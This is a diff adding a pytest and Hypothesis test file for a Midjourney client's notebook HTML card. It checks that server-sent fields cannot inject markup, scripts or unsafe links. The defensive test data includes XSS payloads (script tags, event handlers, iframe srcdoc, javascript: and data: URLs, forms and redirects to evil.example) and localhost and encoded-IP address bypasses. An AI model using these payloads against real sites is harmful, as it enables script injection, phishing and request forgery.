@@ -1,0 +1,304 @@
+"""The card that notebooks show: what is on it, and that nothing that a server sends can act there."""
+
+from __future__ import annotations
+
+import re
+from datetime import UTC, datetime, timedelta
+from html.parser import HTMLParser
+from typing import Any
+
+import attrs
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from anyapi_midjourney import Task
+from anyapi_midjourney.notebook import card
+from anyapi_midjourney_generated import models
+from shells import CASES, EXAMPLE
+
+TASKS = {name: case["body"] for name, case in CASES.items() if "status" in (case.get("body") or ())}
+PICTURE = "https://pictures.example/pig.png"
+RUNS = "window.pwned=1"
+WORDS = {
+    "script": f"<script>{RUNS}</script>",
+    "handler": f'"><img src=x onerror="{RUNS}">',
+    "attribute": f"\" autofocus tabindex=0 onfocus='{RUNS}' onmouseover='{RUNS}' style='position:fixed;inset:0' x=\"",
+    "single quotes": f"' onmouseover='{RUNS}' onload='{RUNS}' x='",
+    "svg": f"</span></div></div></section><svg onload='{RUNS}'><animate onbegin='{RUNS}' attributeName=x dur=1s>",
+    "frame": f'<iframe srcdoc="<script>parent.{RUNS}</script>"></iframe><object data="https://evil.example/">',
+    "page": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "style": "</div><style>* { display: none } @import 'https://evil.example/x';</style><link rel=stylesheet href=/x>",
+    "cover": '</div></div></div><h1 style="position:fixed;inset:0;background:red">Pay here</h1>',
+    "form": f'<form action="https://evil.example/"><input name=key autofocus><details open ontoggle="{RUNS}">',
+    "entities": f"&lt;script&gt;{RUNS}&lt;/script&gt; &#34; onload=&#34;{RUNS} &quot;><script>{RUNS}</script>",
+    "comment": f"<!--><script>{RUNS}</script>--> <![CDATA[ <textarea> <plaintext> </title>",
+    "tower": "Z" + "\u0301" * 600 + " tower",
+    "joined tower": "Z" + "\u0301\u0301\u0301\u200d" * 200 + " tower",
+    "marks": "Z" + "\u0310\u0321\u0489" * 200,
+    "reordering": "safe \u202egnp.exe\u202d \u2066\u2067\u2069\u2069\u2069\u202c \u0645\u0631\u062d\u0628\u0627 back",
+    "right to left": "\u062e\u0646\u0632\u064a\u0631 --ar 16:9 (\u0645\u0631\u062d\u0628\u0627)",
+    "endless": "W" * 100_000,
+    "endless wide": "\ufdfd\u2e3b\U00012219" * 30_000,
+    "lines": "line\n" * 50_000,
+    "blanks": "a" + "\u00a0" * 5000 + "b" + "\t" * 5000 + "c" + "\u3000" * 5000,
+    "controls": "".join(map(chr, (*range(32), *range(127, 160), 0x2028, 0x2029, 0xD800, 0xDFFF, 0xFEFF))),
+    "emoji": "👩\u200d❤️\u200d💋\u200d👩 1️⃣🖌️ 一只粉红色的猪在田野里，超现实主义 नमस्ते שָׁלוֹם",
+}
+"""Each to stand in every field."""
+NO_ADDRESSES = [
+    f"javascript:{RUNS}",
+    f"JaVaScRiPt://pictures.example/%0a{RUNS}",
+    f"data:text/html,<script>parent.{RUNS}</script>",
+    "blob:https://pictures.example/1",
+    "http://pictures.example/pig.png",
+    "//pictures.example/pig.png",
+    "/mj/image/1",
+    "https:pictures.example/pig.png",
+    "https:/\\evil.example/x.png",
+    "https://user:word@evil.example/x.png",
+    "https://evil.example\\@pictures.example/x.png",
+    "https://evil\t.example/x.png",
+    "https://evil.example/\u202egnp.x",
+    " https://evil.example/x.png",
+    "https://evil.example/a b.png",
+    "https://evil.example:99999/x.png",
+    "https://127.0.0.1/x.png",
+    "https://127%2e0.0.1/x.png",
+    "https://\uff11\uff12\uff17.0.0.1/x.png",
+    "https://a.%6cocalhost/x.png",
+    "https://[::1]/x.png",
+    "https://2130706433/x.png",
+    "https://intranet/x.png",
+    "https://evil.example/" + "x" * 100_000,
+    "https://[",
+    "https://",
+]
+"""None of which a browser may be sent to."""
+
+
+def example(**changes: Any) -> Task:
+    """The vendor's example with some fields changed."""
+    return Task.from_model(models.Task.from_dict(EXAMPLE | changes))
+
+
+def with_word(word: str) -> Task:
+    """A task with one text in every field."""
+    names = ("id", "action", "status", "progress", "prompt", "promptEn", "state", "failReason", "videoUrl")
+    button = {"customId": word, "emoji": f"🔄{word}", "label": word, "style": 5, "url": word}
+    return example(
+        **dict.fromkeys(names, word),
+        imageUrl=PICTURE,
+        videoUrls=[{"url": f"{word}#"}],
+        properties={"finalPrompt": f"final {word}"},
+        buttons=[button, button | {"style": 1}, button | {"label": None}, button | {"label": "", "emoji": ""}],
+    )
+
+
+def with_address(address: str) -> Task:
+    """A task whose addresses are all of one form."""
+    buttons = [{"label": "Web", "style": 5, "url": address}]
+    return example(imageUrl=address, videoUrl=f"{address}#", videoUrls=[{"url": f"{address}#2"}], buttons=buttons)
+
+
+def crowd(number: int, word: str = "") -> Task:
+    """A task with many of what there can be many of."""
+    videos = [{"url": f"https://videos.example/{n}{word}"} for n in range(number)]
+    button = {"label": word or "U1", "style": 5, "url": f"https://links.example/{word}"}
+    return example(imageUrl=PICTURE, buttons=[button] * number, videoUrls=videos)
+
+
+ALLOWED = {
+    "div": {"dir", "style"},
+    "span": {"dir", "style"},
+    "a": {"href", "target", "rel", "style"},
+    "img": {"src", "alt", "referrerpolicy", "style"},
+}
+
+
+class Card(HTMLParser):
+    """A card, taken apart. Anything that it may not hold is an error."""
+
+    def __init__(self, shown: Task) -> None:
+        super().__init__()
+        self.html = card(shown)
+        self.texts: list[str] = []
+        self.links: list[str] = []
+        self.pictures: list[dict[str, str | None]] = []
+        self.styles: list[str] = []
+        self._open: list[str] = []
+        self.html.encode()
+        self.feed(self.html)
+        self.close()
+        assert not self._open
+        assert len(self.pictures) <= 1
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        attributes = dict(attrs)
+        assert attributes.keys() <= ALLOWED[tag]
+        assert len(attributes) == len(attrs)
+        assert attributes.get("dir", "auto") in ("auto", "ltr")
+        assert re.fullmatch(r"[a-z0-9:;#%.,() -]+", attributes["style"] or "")
+        assert "url" not in (attributes["style"] or "")
+        self.styles.append(attributes["style"] or "")
+        if tag == "a":
+            assert (attributes["target"], attributes["rel"]) == ("_blank", "noopener noreferrer")
+            self.links.append(attributes["href"] or "")
+        if tag == "img":
+            assert attributes["referrerpolicy"] == "no-referrer"
+            self.pictures.append(attributes)
+        else:
+            self._open.append(tag)
+        for url in (attributes.get("href"), attributes.get("src")):
+            assert url is None or re.match(r"https://[^/@\s\\]+(/|$)", url)
+
+    def handle_endtag(self, tag: str) -> None:
+        assert self._open.pop() == tag
+
+    def handle_data(self, data: str) -> None:
+        self.texts.append(data)
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(data)
+
+    def handle_decl(self, decl: str) -> None:
+        raise AssertionError(decl)
+
+    def handle_pi(self, data: str) -> None:
+        raise AssertionError(data)
+
+    def unknown_decl(self, data: str) -> None:
+        raise AssertionError(data)
+
+    @property
+    def text(self) -> str:
+        return "|".join(self.texts)
+
+
+@pytest.mark.parametrize("name", TASKS)
+def test_every_known_task_has_a_card(name: str) -> None:
+    shown = Task.from_model(models.Task.from_dict(TASKS[name]), "asked-for")
+    assert shown._repr_html_() == Card(shown).html  # pyright: ignore[reportPrivateUsage]  (notebooks call it)
+    parts = Card(shown).texts
+    for text in (shown.status or "ACCEPTED", shown.id, shown.action, shown.prompt, shown.fail_reason):
+        assert text is None or text in parts
+    assert len(Card(shown).html) < 8000
+
+
+@pytest.mark.parametrize("name", WORDS)
+def test_hostile_words_are_words(name: str) -> None:
+    assert Card(with_word(WORDS[name])).links == [PICTURE]
+
+
+HOSTILE = st.lists(
+    st.text(st.characters()) | st.sampled_from([*WORDS.values(), *NO_ADDRESSES, PICTURE, "<", "'", '"', "&", "\n"])
+).map("".join)
+
+
+@settings(deadline=None)
+@given(HOSTILE, HOSTILE, st.data())
+def test_nothing_that_a_server_sends_acts(word: str, address: str, data: st.DataObject) -> None:
+    Card(with_word(word))
+    Card(with_address(address))
+    Card(with_address(f"https://pictures.example/{address}"))
+    fields = dict.fromkeys(EXAMPLE, HOSTILE | st.sampled_from(["SUCCESS", "MODAL", "62%", "1730621826053"]))
+    Card(Task.from_model(models.Task.from_dict(data.draw(st.fixed_dictionaries({}, optional=fields)))))
+
+
+@given(st.text(st.characters(exclude_categories=["C", "M", "Z"]), min_size=1))
+def test_words_are_shown_as_they_are(word: str) -> None:
+    parts = Card(example(prompt=word, failReason=f"{word} failed", status="FAILURE", state=word[:80])).texts
+    assert word in parts
+    assert f"{word} failed" in parts
+    assert word[:80] in parts
+
+
+@pytest.mark.parametrize("address", NO_ADDRESSES)
+def test_an_address_that_a_browser_may_not_be_sent_to_is_a_text(address: str) -> None:
+    shown = Card(with_address(address))
+    assert (shown.links, shown.pictures) == ([], [])
+    assert "Picture: " in shown.text
+    assert "Video 2: " in shown.text
+
+
+def test_the_picture_links_to_itself_and_says_what_it_is_and_until_when_it_can_be_seen() -> None:
+    shown = Card(example())
+    (picture,) = shown.pictures
+    assert picture["src"] == EXAMPLE["imageUrl"]
+    assert picture["alt"] == "Picture: pig --v 6.1"
+    assert shown.links == [EXAMPLE["imageUrl"]]
+    assert "Link works until 2024-11-04 08:17:35 UTC" in shown.texts
+    quotes = f"{PICTURE}?\"onerror='{RUNS}'<>&amp;"
+    assert Card(example(imageUrl=quotes)).pictures[0]["src"] == quotes
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [{"imageUrl": "https://v.example/x.mp4"}, {"imageUrl": "https://v.example/x.WebM?a#b"}, {"videoUrl": PICTURE}],
+)
+def test_a_video_is_a_link(changes: dict[str, Any]) -> None:
+    shown = Card(example(**{"imageUrl": PICTURE} | changes))
+    assert (len(shown.links), shown.pictures) == (1, [])
+    assert "Video 1" in shown.texts
+
+
+def test_a_running_task_has_a_bar_and_a_preview_and_a_finished_one_has_neither() -> None:
+    running = Card(example(status="IN_PROGRESS", progress="31%"))
+    assert [style for style in running.styles if style.endswith("width:31%")]
+    assert {"IN_PROGRESS", "31 %", "Preview"} <= set(running.texts)
+    assert running.pictures[0]["alt"] == "Preview: pig --v 6.1"
+    for status in ("SUCCESS", "FAILURE", "CANCEL"):
+        done = Card(example(status=status, progress="31%"))
+        assert "31" not in done.text
+        assert not [style for style in done.styles if style.endswith("%")]
+
+
+def test_buttons_lie_in_midjourneys_rows_and_a_pressed_one_and_a_link_can_be_told() -> None:
+    buttons = [button | {"style": n % 2 + 1} for n, button in enumerate(EXAMPLE["buttons"])]
+    vary = {"customId": "MJ::JOB::low_variation::1::x::SOLO", "label": "Vary (Subtle)", "emoji": "🪄"}
+    shown = Card(
+        example(buttons=[*buttons, vary, {"label": "Web", "style": 5, "url": "https://midjourney.com/jobs/1"}])
+    )
+    html = re.sub(r"<span [^>]*>", "[", shown.html.replace("</span>", "]"))
+    assert "[U1][U2][U3][U4][🔄]</div>" in html
+    assert ">[V1][V2][V3][V4]</div>" in html
+    assert ">[🪄 Vary (Subtle)]</div>" in html
+    assert shown.links[1:] == ["https://midjourney.com/jobs/1"]
+    pressed = {name: style for style, name in re.findall(r'style="([^"]*)">(U\d)<', shown.html)}
+    assert pressed["U1"] == pressed["U3"] != pressed["U2"] == pressed["U4"]
+
+
+def test_what_is_too_much_is_cut_and_says_so() -> None:
+    shown = Card(crowd(1000))
+    assert "… and 975 more" in shown.texts
+    assert "… and 992 more" in shown.texts
+    assert shown.text.count("U1") == 25
+    assert max(Card(example(prompt="x" * 2001)).texts, key=len) == "x" * 2000 + "…"
+    assert "Z\u0301\u0301\u0301\u0301 tower…" in Card(example(prompt=WORDS["tower"])).texts
+    assert "Z\u0301\u0301\u0301\u200d\u0301 tower…" in Card(example(prompt=WORDS["joined tower"])).texts
+
+
+@pytest.mark.parametrize("word", ['"' * 10**6, "&\n" * 10**6, "\u0310" * 10**6])
+def test_a_card_is_not_endless(word: str) -> None:
+    assert len(card(with_word(word))) < 100_000
+    assert len(card(crowd(3000, word[:1900]))) < 400_000
+
+
+@pytest.mark.parametrize(
+    ("seconds", "text"),
+    [
+        (0, "0.0 s"),
+        (2.04, "2.0 s"),
+        (59.94, "59.9 s"),
+        (59.96, "1 min 0 s"),
+        (65, "1 min 5 s"),
+        (3599.6, "1 h 0 min"),
+        (11_040, "3 h 4 min"),
+        (10**9, "277777 h 46 min"),
+    ],
+)
+def test_times_are_in_words(seconds: float, text: str) -> None:
+    start = datetime(2024, 11, 3, 8, 17, 6, tzinfo=UTC)
+    end = start + timedelta(seconds=seconds)
+    shown = Card(attrs.evolve(example(), submitted_at=start, started_at=end, finished_at=end + timedelta(seconds=7)))
+    assert f"Submitted 2024-11-03 08:17:06 UTC · queued for {text} · ran for 7.0 s" in shown.texts
